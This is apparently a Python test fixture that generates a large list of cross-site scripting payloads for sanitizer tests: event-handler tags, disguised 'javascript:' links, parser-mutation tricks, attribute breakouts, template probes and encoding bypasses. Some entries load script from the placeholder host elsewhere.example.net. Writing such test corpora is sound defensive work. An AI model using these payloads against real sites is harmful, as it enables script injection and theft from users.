"""Texts that try to run as script wherever they are shown. All were written for these tests.

Each calls ``alert``, which the tests watch. Where one loads something, it is from a host that
nobody has: a request to it is seen as well.
"""

from __future__ import annotations

from itertools import product

CALL = "alert(1)"
FAILS = f"src=x onerror={CALL}"
AWAY = "https://elsewhere.example.net"

EVENTS = (
    *(
        "onload",
        "onerror",
        "onclick",
        "onmouseover",
        "onmouseenter",
        "onfocus",
        "onblur",
    ),
    *("oninput", "onchange", "onkeydown", "onpointerover", "onpointerdown", "onwheel"),
    *("onanimationstart", "ontransitionend", "ontoggle", "onbeforetoggle", "onscroll"),
    *(
        "oncut",
        "oncopy",
        "onpaste",
        "ondrag",
        "ondrop",
        "onsubmit",
        "onreset",
        "onselect",
    ),
    *("onplay", "oncanplay", "onloadstart", "onresize", "onhashchange", "onpageshow"),
)
HOSTS = (
    "<img src=x {e}={c}>",
    '<p tabindex=0 autofocus {e}="{c}">words</p>',
    "<svg {e}={c}><rect width=9 height=9 /></svg>",
)
WITH_EVENTS = [h.format(e=e, c=CALL) for e, h in product(EVENTS, HOSTS)]

SCHEMES = (
    *("javascript:", "JaVaScRiPt:", " javascript:", "\tjavascript:", "java\tscript:"),
    *("java\nscript:", "\x01javascript:", "javascript\t:", "javascript&colon;"),
    *(
        "&#106;avascript:",
        "&#x6a;avascript:",
        "&#0000106avascript:",
        "java&Tab;script:",
    ),
    *("java&NewLine;script:", "//javascript:", "javascript://%0a", "vbscript:"),
    *("data:text/html,<script>", "feed:javascript:", "view-source:javascript:"),
    *("jar:javascript:", "livescript:", "\u2028javascript:", "\ufeffjavascript:"),
    *("ｊavascript:", "javaſcript:", "javascript&#58;", "javascript&#x3A;"),
)
CARRIERS = (
    '<a href="{s}{c}">words</a>',
    '<form action="{s}{c}"><button>words</button></form>',
    '<iframe src="{s}{c}"></iframe>',
)
LINKS = [f.format(s=s, c=CALL) for s, f in product(SCHEMES, CARRIERS)]
BARE = [f"{scheme}{CALL}" for scheme in SCHEMES]

TAGS = [
    f"<script>{CALL}</script>",
    f"<SCRIPT>{CALL}</SCRIPT>",
    f"<script >{CALL}</script >",
    f"<script\n>{CALL}</script\n>",
    f"<script/x>{CALL}</script>",
    f"<<script>{CALL}//<</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script>{CALL}",
    f"<script src={AWAY}/a.js></script>",
    "<script src=//elsewhere.example.net/a.js></script>",
    f"<script type=module>import '{AWAY}/a.js'</script>",
    f"<script type=text/javascript>{CALL}</script>",
    f'<object data="{AWAY}/a.swf"></object>',
    f'<embed src="{AWAY}/a.swf">',
    f'<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>',
    f"<iframe src={AWAY}></iframe>",
    f'<meta http-equiv=refresh content="0;url={AWAY}">',
    f'<base href="{AWAY}/">',
    f"<link rel=stylesheet href={AWAY}/a.css>",
    f"<link rel=prefetch href={AWAY}/a>",
    f"<img src={AWAY}/a.png>",
    f"<img srcset={AWAY}/a.png>",
    f'<video poster="{AWAY}/a.png"><source src="{AWAY}/a.mp4"></video>',
    f'<audio src="{AWAY}/a.mp3" autoplay></audio>',
    f"<picture><source srcset={AWAY}/a.png><img></picture>",
    f'<input type=image src="{AWAY}/a.png">',
    f'<body background="{AWAY}/a.png">',
    f'<table background="{AWAY}/a.png"><tr><td>x</table>',
    f"<style>@import '{AWAY}/a.css';</style>",
    f"<style>*{{background:url({AWAY}/a.png)}}</style>",
    f'<p style="background:url({AWAY}/a.png)">words</p>',
    f'<p style="width:expression({CALL})">words</p>',
    f"<isindex type=image src=x onerror={CALL}>",
    f'<button formaction="javascript:{CALL}">words</button>',
    f"<marquee onstart={CALL}>words</marquee>",
    f"<details open ontoggle={CALL}><summary>words</summary></details>",
    f"<dialog open onclose={CALL}>words</dialog>",
    f"<keygen autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}><option>x</select>",
    f"<textarea autofocus onfocus={CALL}>x</textarea>",
    f"<video><source onerror={CALL}></video>",
    f"<a ping={AWAY} href=#>words</a>",
    f'<blockquote cite="javascript:{CALL}">words</blockquote>',
]
SVG_AND_MATH = [
    f"<svg><script>{CALL}</script></svg>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    f'<svg><a href="javascript:{CALL}"><text x=9 y=9>words</text></a></svg>',
    f'<svg><a xlink:href="javascript:{CALL}"><text x=9 y=9>words</text></a></svg>',
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s></svg>",
    f"<svg><set onbegin={CALL} attributeName=x to=1></svg>",
    f'<svg><use href="data:image/svg+xml,<svg onload={CALL}></svg>#x"></svg>',
    f"<svg><image href={AWAY}/a.png></svg>",
    f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>",
    f"<svg><desc><img src=x onerror={CALL}></desc></svg>",
    f"<svg><style><img src=x onerror={CALL}></style></svg>",
    f'<math href="javascript:{CALL}">words</math>',
    f'<math><mi xlink:href="javascript:{CALL}">words</mi></math>',
    f"<math><mtext><img src=x onerror={CALL}></mtext></math>",
]
# What a parser mends into something else than what was cleaned.
MUTATING = [
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    f'<math><mtext><table><mglyph><style><!--</style><b title="--&gt;&lt;img {FAILS}&gt;">',
    f'<svg></p><style><a id="</style><img src=x onerror={CALL}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={CALL}>",
    f'<p id="`><img src=x onerror={CALL}>">words</p>',
    f"<listing>&lt;img src=x onerror={CALL}&gt;</listing>",
    f'<xmp><p title="</xmp><img src=x onerror={CALL}>"></xmp>',
    f'<title><a title="</title><img src=x onerror={CALL}>"></title>',
    f'<textarea><a title="</textarea><img src=x onerror={CALL}>"></textarea>',
    f"<template><img src=x onerror={CALL}></template>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<!--!><img src=x onerror={CALL}>-->",
    f"<!-- --!><img src=x onerror={CALL}>",
    f"<![CDATA[<img src=x onerror={CALL}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={CALL}>",
    f"<?<img src=x onerror={CALL}>",
    f"</<img src=x onerror={CALL}>",
    f"<a<img src=x onerror={CALL}>",
    f"<select><style></select><img src=x onerror={CALL}></style>",
    f"<table><a href=#><img src=x onerror={CALL}></table>",
    f"<plaintext><img src=x onerror={CALL}>",
    f"<frameset onload={CALL}>",
]
# Out of an attribute, a script or a comment that they may be put into.
BREAKING_OUT = [
    f'"><script>{CALL}</script>',
    f"'><script>{CALL}</script>",
    f"`><script>{CALL}</script>",
    f'" onmouseover="{CALL}',
    f"' onmouseover='{CALL}",
    f'" autofocus onfocus={CALL} x="',
    f"' autofocus onfocus={CALL} x='",
    f"--><img src=x onerror={CALL}>",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"</noscript><script>{CALL}</script>",
    f"]]><script>{CALL}</script>",
    f"*/{CALL}/*",
    f"';{CALL};//",
    f'";{CALL};//',
    f"\\';{CALL};//",
    f"${{{CALL}}}",
    f"`${{{CALL}}}`",
]
# In case that something below is ever a template, or decodes twice.
DECODED = [
    "{{ constructor.constructor('alert(1)')() }}",
    "{% debug %}{{ 7|add:7 }}",
    "{{= 7*7 }}",
    "<%= 7*7 %>",
    "#{7*7}",
    "[[${7*7}]]",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{CALL}&amp;lt;/script&amp;gt;",
    f"&#60;script&#62;{CALL}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={CALL}&#x3e;",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{CALL}\\x3c/script\\x3e",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
    f"\u2039script\u203a{CALL}\u2039/script\u203a",
    f"<\u200bscript>{CALL}</\u200bscript>",
    f"<img\u00a0src=x\u00a0onerror={CALL}>",
    f"<img/src=x/onerror={CALL}>",
    f"<img\x0csrc=x\x0conerror={CALL}>",
    f"<img src=x onerror\x0b={CALL}>",
    f"<img src=x onerror=\u202e{CALL}>",
    f"<img src=x oneonerrorrror={CALL}>",
    "<img src=x:x onerror=&#97;lert(1)>",
    "<img src=x onerror=\\u0061lert(1)>",
    f"<İmg src=x onerror={CALL}><ımg src=x onerror={CALL}>",
    f"<img src='x' x='>' onerror={CALL}>",
    f"<img src=x onerror='{CALL}",
    f'<img """><script>{CALL}</script>">',
    "<a href=x id=alert><a href=x id=alert name=location>",
]
PAYLOADS = list(
    dict.fromkeys(
        [
            *TAGS,
            *SVG_AND_MATH,
            *MUTATING,
            *BREAKING_OUT,
            *DECODED,
            *WITH_EVENTS,
            *LINKS,
            *BARE,
        ]
    )
)
